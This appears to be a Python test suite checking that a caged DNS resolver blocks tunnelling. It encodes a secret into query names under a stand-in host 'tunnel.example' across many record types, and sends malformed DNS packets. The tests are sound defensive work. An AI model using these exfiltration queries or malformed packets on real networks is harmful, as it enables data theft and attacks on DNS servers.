"""Claim: what the resolver is asked carries nothing out, and what it answers carries nothing in: names that are not
listed and types beside addresses are never asked upstream, and every answer is of the gatekeeper's own making.
"""

from __future__ import annotations

import struct

from _support.internet import Host, Internet, places

from .network import attack, control

HOSTS = ("origin.example",)
SECRET = b"x3jq-the-secret-of-the-cage"
TYPES = {"TXT": 16, "NULL": 10, "MX": 15, "SRV": 33, "CNAME": 5, "NS": 2, "SOA": 6, "HTTPS": 65, "ANY": 255,
         "AXFR": 252, "PTR": 12}  # fmt: skip

TUNNEL = """
    for kind, number in TYPES.items():
        for word, tcp in (("UDP", False), ("TCP", True)):
            says(f"{kind}, {word}, a name to carry it", dns, SECRET + b".tunnel.example", number, None, tcp)
            says(f"{kind}, {word}, below the listed", dns, SECRET + b".origin.example", number, None, tcp)
            says(f"{kind}, {word}, the listed", dns, b"origin.example", number, None, tcp)
    says("A, a name to carry it", dns, SECRET + b".tunnel.example")
    says("A, below the listed", dns, SECRET + b".origin.example")
"""
# Messages that are not one question for one address. The door answers with an error or not at all, and lives.
ODD = {
    "empty": b"",
    "one byte": b"\0",
    "head alone": bytes(12),
    "an answer": struct.pack("!6H", 1, 0x8180, 1, 0, 0, 0) + b"\6denied\7example\0" + struct.pack("!2H", 1, 1),
    "two questions": struct.pack("!6H", 1, 0x100, 2, 0, 0, 0)
    + (b"\6origin\7example\0" + struct.pack("!2H", 1, 1)) + (b"\6denied\7example\0" + struct.pack("!2H", 1, 1)),
    "a pointer to itself": struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack("!2H", 1, 1),
    "a pointer beyond": struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\xff\xff" + struct.pack("!2H", 1, 1),
    "a label without an end": struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\x3fab",
    "update": struct.pack("!6H", 1, 0x2800, 1, 0, 0, 0) + b"\6origin\7example\0" + struct.pack("!2H", 6, 1),
    "chaos": struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\7version\4bind\0" + struct.pack("!2H", 16, 3),
    "65535 questions": struct.pack("!6H", 1, 0x100, 65535, 0, 0, 0) + b"\6denied\7example\0" + struct.pack("!2H", 1, 1),
}  # fmt: skip
SEND = """
    for name, message in ODD.items():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.2)
            s.connect((RESOLVER, 53))
            s.send(message)
            try:
                answer = s.recv(4096)
                say(name, [answer[3] & 15, struct.unpack("!H", answer[6:8])[0]])
            except TimeoutError:
                say(name, "silence")
    says("afterwards", dns, b"origin.example")
    says("afterwards, over TCP", dns, b"origin.example", 1, None, True)
"""


def test_uncaged_a_name_carries_data(net_host: Host, net: Internet) -> None:
    control(net_host, f"dns({SECRET!r} + b'.tunnel.example', 16, {places.RESOLVER!r})")

    assert SECRET.decode() + ".tunnel.example" in net.questions()


def test_no_name_and_no_type_carries_anything(net_host: Host, net: Internet) -> None:
    said = attack(net_host, TUNNEL, names={"TYPES": TYPES, "SECRET": SECRET}, hosts=HOSTS)

    answered = {name for name, value in said.values.items() if isinstance(value, list) and value[1:]}
    assert answered == set()
    assert not [each for each in net.questions() if SECRET.decode() in each]
    assert not [each for each in net.arrived() if SECRET.hex() in str(each["data"])]
    assert net.arrivals_at(places.DENIED, places.OTHER_RESOLVER) == []
    assert SECRET.decode() + ".tunnel.example" in said.answer.refused()


def test_messages_that_ask_nothing_sensible_get_nothing(net_host: Host, net: Internet) -> None:
    said = attack(net_host, SEND, names={"ODD": ODD}, hosts=HOSTS)

    assert {name: value for name, value in said.values.items() if name in ODD and value != "silence" and value[1]} == {}
    assert (said["afterwards"][0], said["afterwards, over TCP"][0]) == (0, 0)
    assert set(net.questions()) <= {"origin.example"}


def test_every_answer_is_an_address_of_the_cage(net_host: Host, net: Internet) -> None:
    """Two names have two of them, and none is the server's own."""
    said = attack(net_host, "for name in NAMES: says(name, dns, name.encode())",
                  names={"NAMES": ["origin.example", "www.origin.example"]},
                  hosts=("origin.example", "www.origin.example"))  # fmt: skip

    one, other = said["origin.example"], said["www.origin.example"]
    assert one != other
    assert [each[1].startswith(("198.18.", "198.19.")) for each in (one, other)] == [True, True]


def test_an_address_of_the_sixth_version_is_not_told(net_host: Host, net: Internet) -> None:
    said = attack(net_host, "says('AAAA', dns, b'origin.example', 28)", hosts=HOSTS)

    assert said["AAAA"] == [0]
